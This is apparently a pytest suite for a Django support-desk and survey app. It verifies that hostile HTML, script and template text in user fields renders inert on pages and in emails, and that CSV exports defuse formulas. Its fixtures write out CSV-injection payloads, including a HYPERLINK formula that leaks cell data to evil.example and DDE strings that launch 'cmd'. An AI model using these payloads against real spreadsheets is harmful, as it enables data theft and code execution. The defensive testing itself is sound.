"""Hostile input shown back: script and HTML payloads written into every text a
customer, an agent or an admin controls come out as the same inert text on every page
that shows them, in the emails, and in the CSV exports (where formulas are defused)."""

import csv
import io
from email import message_from_bytes
from email import policy as email_policy

import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.test import Client

from customers.models import Customer
from surveys.models import Question
from surveys.services.config import survey_preview_email
from surveys.services.dispatch import invitation_email
from tickets.services.email import reply_email_build

from .hostile import (
    HOSTILE_EMAIL,
    JAVASCRIPT_LINK,
    build_world,
    hostile_pages,
    live_markup,
    payload,
    shown_texts,
)


@pytest.fixture
def world(db):
    return build_world()


def client_for(world, username: str | None) -> Client:
    client = Client()
    if username is not None:
        client.force_login(world.admin if username == "root" else world.agent)
    return client


def assert_inert(html: str, *, shows: list[str], where: str) -> None:
    assert live_markup(html) == [], where
    visible = shown_texts(html)
    for text in shows:
        # Line breaks may turn into <br>/<p> (message bodies): compare line by line.
        for line in text.splitlines():
            assert line in visible, f"{where}: {line!r} not shown as text"


def test_every_page_shows_hostile_text_as_text_and_runs_none_of_it(world):
    shown_somewhere = set()
    for page in hostile_pages(world):
        response = client_for(world, page.user).get(page.path)
        assert response.status_code == 200, page.path
        html = response.content.decode()
        assert_inert(html, shows=[world.texts[name] for name in page.shows], where=page.path)
        shown_somewhere.update(page.shows)
    # Every hostile text was seen on at least one page: none was left out of the test.
    assert shown_somewhere == set(world.texts)


def test_a_canned_reply_fills_its_placeholders_with_hostile_text_still_escaped(world):
    """The placeholders are filled with the customer's name and the ticket's subject (both
    hostile) and the result prefills the reply box: no </textarea> break-out."""
    client = client_for(world, "ana")
    html = client.get(f"/desk/tickets/{world.ticket.pk}/?canned={world.canned.pk}").content
    soup = BeautifulSoup(html, "html.parser")
    reply = soup.select_one('form[action$="/reply/"] textarea[name="reply-body"]')

    assert reply is not None
    filled = reply.get_text()
    assert payload("canned body") in filled
    assert world.customer.first_name in filled
    assert world.texts["subject"] in filled
    assert world.texts["agent"] in filled
    assert "{{ 7*7 }}" in filled  # written text, never evaluated as a template
    assert live_markup(html.decode()) == []


def test_the_survey_page_puts_an_earlier_hostile_comment_back_in_its_box_as_text(world):
    html = Client().get(f"/s/{world.invitation.token}/").content.decode()
    soup = BeautifulSoup(html, "html.parser")
    box = soup.find("textarea", attrs={"name": f"q{world.text_question.pk}"})

    assert box is not None
    assert box.get_text().strip() == world.texts["comment"].strip()


def test_the_email_preview_of_the_survey_builder_is_inert_inside_its_frame_too(world):
    """The builder shows the email in an iframe's srcdoc: the attribute is escaped once,
    and the HTML it holds must in turn be inert."""
    client = client_for(world, "root")
    html = client.get(f"/surveys/builder/{world.survey.pk}/preview/en/email/").content.decode()
    frame = BeautifulSoup(html, "html.parser").find("iframe")

    assert frame is not None and frame.has_attr("sandbox")
    assert "allow-scripts" not in frame["sandbox"]
    inner = frame["srcdoc"]
    assert_inert(inner, shows=[world.texts["question"]], where="preview srcdoc")


# --- Emails ----------------------------------------------------------------------------


def html_part(message) -> str:
    [(content, mimetype)] = message.alternatives
    assert mimetype == "text/html"
    return content


def test_the_reply_email_escapes_hostile_text_in_its_html_part(world):
    email = reply_email_build(world.reply)

    html = html_part(email)
    assert_inert(html, shows=[payload("reply"), JAVASCRIPT_LINK], where="reply email")
    assert payload("reply") in email.body  # the plain text part keeps the words as written


def test_the_survey_email_escapes_hostile_text_in_its_html_part(world):
    email = invitation_email(world.invitation)

    html = html_part(email)
    assert_inert(
        html,
        shows=[world.texts["question"], world.texts["subject"], world.customer.first_name],
        where="survey email",
    )


def test_the_survey_builders_test_email_escapes_hostile_text_too(world):
    email = survey_preview_email(
        survey=world.survey,
        language="en",
        preview_url="http://testserver/preview/",
        name=payload("admin name"),
    )

    assert_inert(
        html_part(email),
        shows=[world.texts["question"], payload("admin name").split(" ", 1)[0]],
        where="test email",
    )


def test_the_outbox_shows_sent_hostile_emails_inert(world, settings, tmp_path):
    settings.EMAIL_BACKEND = "cxm.lib.mail.OutboxBackend"
    settings.EMAIL_FILE_PATH = tmp_path
    reply_email_build(world.reply).send()
    invitation_email(world.invitation).send()
    client = client_for(world, "root")

    listing = client.get("/desk/outbox/").content.decode()
    assert_inert(listing, shows=[], where="outbox")
    keys = sorted(path.stem for path in tmp_path.glob("*.eml"))
    assert len(keys) == 2
    for key in keys:
        html = client.get(f"/desk/outbox/{key}/").content.decode()
        assert_inert(html, shows=[], where=f"outbox {key}")
        frame = BeautifulSoup(html, "html.parser").find("iframe")
        if frame is not None:
            assert "allow-scripts" not in frame.get("sandbox", "allow-scripts")
            assert live_markup(frame.get("srcdoc", "")) == []
    assert mail.outbox == []  # nothing went anywhere else


def test_a_hostile_address_stays_one_recipient(world):
    email = invitation_email(world.invitation)
    parsed = message_from_bytes(email.message().as_bytes(), policy=email_policy.default)

    [address] = parsed["To"].addresses
    assert address.addr_spec == HOSTILE_EMAIL


# --- CSV exports -----------------------------------------------------------------------

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            if cell.lstrip("'") != cell:
                continue  # defused: a leading quote makes it text
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), (
                f"{where}: {cell!r} would run as a formula"
            )


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def formula_world(world):
    """The same world, with formulas where a spreadsheet would meet them: the customer's
    name, email and segment, the team, the category, a question and the comment."""
    Customer.objects.filter(pk=world.customer.pk).update(
        name=FORMULAS["equals"], email="-2+3@example.com", segment=FORMULAS["at"][:60]
    )
    Question.objects.filter(pk=world.text_question.pk).update(text_en=FORMULAS["return"])
    world.team.name = FORMULAS["plus"]
    world.team.save()
    world.ticket.category = FORMULAS["minus"]
    world.ticket.save()
    world.response.category = FORMULAS["minus"]
    world.response.segment = FORMULAS["at"][:60]
    world.response.save()
    world.response.answers.filter(question=world.text_question).update(text=FORMULAS["tab"])
    return world


def test_the_responses_csv_export_defuses_formulas(formula_world):
    client = client_for(formula_world, "root")
    response = client.get("/api/v1/responses/export.csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    assert_no_formula(rows, "responses export")
    cells = {cell for row in rows for cell in row}
    assert "'" + FORMULAS["equals"] in cells
    assert "'" + FORMULAS["tab"] in cells
    assert "'" + FORMULAS["return"] in cells


@pytest.mark.parametrize(
    ("by", "formula"),
    [("team", "plus"), ("category", "minus"), ("segment", "at")],
)
def test_the_breakdowns_csv_defuses_formulas_in_labels(formula_world, by, formula):
    client = client_for(formula_world, "root")
    response = client.get(f"/analytics/breakdowns/?by={by}&format=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(response)
    assert_no_formula(rows, f"breakdowns by {by}")
    assert "'" + FORMULAS[formula][:60] in {row[0] for row in rows}


def test_the_at_risk_csv_defuses_formulas(formula_world):
    client = client_for(formula_world, "root")
    response = client.get("/analytics/at-risk/?format=csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    assert_no_formula(rows, "at-risk")
    cells = {cell for row in rows for cell in row}
    assert "'" + FORMULAS["equals"] in cells
    assert "'-2+3@example.com" in cells


@pytest.mark.parametrize("metric", ["nps", "first_response_time"])
def test_the_drill_down_csv_defuses_formulas(formula_world, metric):
    client = client_for(formula_world, "root")
    response = client.get(f"/analytics/drill/{metric}/?format=csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    assert_no_formula(rows, f"drill {metric}")
    assert "'" + FORMULAS["equals"] in {cell for row in rows for cell in row}


def test_hostile_text_in_a_csv_export_is_quoted_not_split_into_cells(world):
    """Commas, quotes and line breaks in a comment stay inside one cell."""
    world.response.answers.filter(question=world.text_question).update(
        text='a, "quoted"\nsecond line; =1+1'
    )
    rows = csv_rows(client_for(world, "root").get("/api/v1/responses/export.csv"))

    header, *body = rows
    assert all(len(row) == len(header) for row in body)
    text_column = header.index("text")
    assert 'a, "quoted"\nsecond line; =1+1' in {row[text_column] for row in body}
